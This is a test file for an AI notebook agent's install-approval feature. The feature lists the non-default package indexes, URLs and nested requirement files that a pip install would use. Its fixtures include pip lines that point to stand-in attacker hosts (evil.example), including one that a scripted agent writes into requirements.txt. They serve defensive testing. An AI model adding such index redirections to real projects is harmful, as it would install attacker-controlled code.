/**
 * What a `pip install` fetches from besides the default index, for its
 * approval card: the command line's options and URLs, and what the
 * requirement files it names hold (nested ones, relative to the file that
 * names them), read through a map standing in for the files port.
 */
import type { IApprovalRequest } from '../loop/approval';
import { arrayConversation } from '../loop/conversation';
import { runAgent } from '../loop/run-agent';
import { runConfig } from '../loop/run-config';
import { FakeNotebook } from '../testing/fake-notebook';
import { ScriptedModel } from '../testing/scripted-model';
import { agentTools } from '../tools/all-tools';
import {
  installSources,
  MAX_REQUIREMENT_FILES
} from '../tools/install-sources';
import { ToolRegistry } from '../tools/registry';

function reader(files: Record<string, string>) {
  const asked: string[] = [];
  const read = async (path: string) => {
    asked.push(path);
    if (!(path in files)) {
      throw new Error(`${path} does not exist`);
    }
    return files[path];
  };
  return { read, asked };
}

describe('installSources', () => {
  it('is empty for code that installs package names only, or nothing', async () => {
    const { read, asked } = reader({});
    for (const code of [
      '%pip install pandas seaborn==0.13',
      '!pip install -q "scikit-learn>=1.4"',
      'import pandas as pd\nprint(1)',
      '# %pip install -r requirements.txt'
    ]) {
      expect(await installSources(code, 'proj', read)).toEqual([]);
    }
    expect(asked).toEqual([]);
  });

  it('shows the index options and URLs of a requirements file the install names, relative to the notebook', async () => {
    const { read, asked } = reader({
      'proj/requirements.txt': [
        '# pinned',
        'pandas==2.2.2',
        '--index-url https://pkgs.example.com/simple',
        '--extra-index-url=https://mirror.example.org/simple  # second',
        '-f ./wheels',
        'tool @ https://example.com/tool-1.0.whl',
        'git+https://github.com/x/y.git#egg=y',
        'numpy \\',
        '  >=1.26'
      ].join('\n')
    });
    const sources = await installSources(
      'import os\n%pip install -r requirements.txt\nprint(os.getcwd())',
      'proj',
      read
    );
    expect(asked).toEqual(['proj/requirements.txt']);
    expect(sources).toEqual([
      {
        from: 'requirements.txt',
        text: '--index-url https://pkgs.example.com/simple'
      },
      {
        from: 'requirements.txt',
        text: '--extra-index-url https://mirror.example.org/simple'
      },
      { from: 'requirements.txt', text: '-f ./wheels' },
      {
        from: 'requirements.txt',
        text: 'tool @ https://example.com/tool-1.0.whl'
      },
      { from: 'requirements.txt', text: 'git+https://github.com/x/y.git#egg=y' }
    ]);
  });

  it('follows nested -r and -c files from the folder of the file that names them, once each', async () => {
    const { read, asked } = reader({
      'req/base.txt': '-r extra/more.txt\n-c ../constraints.txt\nrequests',
      'req/extra/more.txt': '-i https://evil.example/simple\n-r ../base.txt',
      'constraints.txt': '--trusted-host evil.example'
    });
    const sources = await installSources(
      '!python3 -m pip install --requirement=req/base.txt',
      '',
      read
    );
    expect(asked).toEqual([
      'req/base.txt',
      'req/extra/more.txt',
      'constraints.txt'
    ]);
    expect(sources.map(s => s.text)).toEqual([
      '-i https://evil.example/simple',
      '--trusted-host evil.example'
    ]);
  });

  it('finds the install however pip is started', async () => {
    const { read } = reader({ 'r.txt': '-i https://x.example/simple' });
    for (const line of [
      '%pip install -r r.txt',
      '!pip3 -q install -r r.txt',
      '!{sys.executable} -m pip install -r r.txt',
      '!uv pip install -r r.txt',
      '%%bash\npip install -r r.txt'
    ]) {
      expect([line, await installSources(line, '', read)]).toEqual([
        line,
        [{ from: 'r.txt', text: '-i https://x.example/simple' }]
      ]);
    }
  });

  it("shows the command line's own options, and says so where a file cannot be read", async () => {
    const { read } = reader({});
    const sources = await installSources(
      '%pip install --extra-index-url https://x.example/simple -r missing.txt -r /etc/reqs.txt -r ../../up.txt pkg',
      'a',
      read
    );
    expect(sources).toEqual([
      {
        from: 'the command',
        text: '--extra-index-url https://x.example/simple'
      },
      {
        from: 'missing.txt',
        text: 'not read (a/missing.txt does not exist): look at it before you run this'
      },
      {
        from: '/etc/reqs.txt',
        text: 'not read (outside the server root): look at it before you run this'
      },
      {
        from: '../../up.txt',
        text: 'not read (outside the server root): look at it before you run this'
      }
    ]);
  });

  it('reads a bounded number of files: a chain of -r ends with a note', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 20; i++) {
      files[`r${i}.txt`] = `-r r${i + 1}.txt`;
    }
    const { read, asked } = reader(files);
    const sources = await installSources('%pip install -r r0.txt', '', read);
    expect(asked).toHaveLength(MAX_REQUIREMENT_FILES);
    expect(sources).toEqual([
      {
        from: `r${MAX_REQUIREMENT_FILES}.txt`,
        text: `not read: more than ${MAX_REQUIREMENT_FILES} requirement files`
      }
    ]);
  });
});

describe('the approval card of an install', () => {
  it('shows the index a requirements file the agent wrote names, and nothing for a plain install', async () => {
    const notebook = new FakeNotebook({ path: 'proj/analysis.ipynb' });
    const requests: IApprovalRequest[] = [];
    const insert = (source: string) => ({
      toolCalls: [{ name: 'insert_cell', arguments: { source, run: true } }]
    });
    await runAgent(
      runConfig({
        model: new ScriptedModel([
          {
            toolCalls: [
              {
                name: 'write_file',
                arguments: {
                  path: 'proj/requirements.txt',
                  content:
                    '--extra-index-url https://pkgs.evil.example/simple\nrequests\n'
                }
              }
            ]
          },
          insert('%pip install -r requirements.txt'),
          insert('%pip install seaborn'),
          { text: 'done' }
        ]),
        tools: new ToolRegistry(agentTools()),
        approvalMode: 'ask-before-running'
      }),
      {
        notebook,
        conversation: arrayConversation([{ role: 'user', content: 'go' }]),
        signal: new AbortController().signal,
        onEvent: () => undefined,
        approve: async request => {
          requests.push(request);
          return { approved: false, reason: 'not now' };
        }
      }
    );
    expect(requests.map(r => r.code)).toEqual([
      '%pip install -r requirements.txt',
      '%pip install seaborn'
    ]);
    expect(requests[0].installSources).toEqual([
      {
        from: 'requirements.txt',
        text: '--extra-index-url https://pkgs.evil.example/simple'
      }
    ]);
    expect(requests[1].installSources).toBeUndefined();
  });
});
